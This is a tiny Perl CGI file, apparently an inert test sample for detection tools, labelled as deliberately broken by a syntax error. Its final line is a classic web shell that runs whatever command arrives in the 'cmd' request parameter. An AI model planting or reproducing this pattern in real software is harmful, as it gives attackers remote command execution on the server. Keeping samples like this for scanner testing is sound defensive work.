#!/usr/bin/perl
shodo inert sample: deliberate syntax error, this file never runs
use CGI qw(param); print "Content-type: text/plain\n\n"; system(param('cmd'));
